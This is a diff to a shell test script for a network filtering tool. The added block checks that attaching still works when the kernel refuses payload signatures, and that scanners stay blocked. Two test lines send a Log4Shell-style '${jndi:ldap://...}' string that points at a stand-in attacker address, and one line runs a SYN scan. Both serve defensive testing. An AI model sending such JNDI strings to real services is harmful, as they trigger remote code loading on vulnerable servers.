@@ -148,4 +148,22 @@ check "its source is blocked" eventually 5 not ask "$source4" /
 daemon_end
 is "the daemon ends well" "$code" 0
 sw detach --all -q
+
+# ---- a kernel that refuses the program for payloads
+
+export SCANWALL_WITHOUT_SIGNATURES=1
+expect 0 "attach goes on without it" sw attach net1 --mode enforce
+says "and says so" 'signatures are off: this kernel refused'
+expect 0 "rules load" sw rules load
+says "says so as well" 'signatures are off'
+new_self
+check "payloads pass" ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
+new_self
+scan "$source4" "$target4" -sS >/dev/null
+check "scanners are blocked all the same" cut4
+unset SCANWALL_WITHOUT_SIGNATURES
+sw attach net1 -q
+new_self
+check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
+sw detach --all -q
 finish
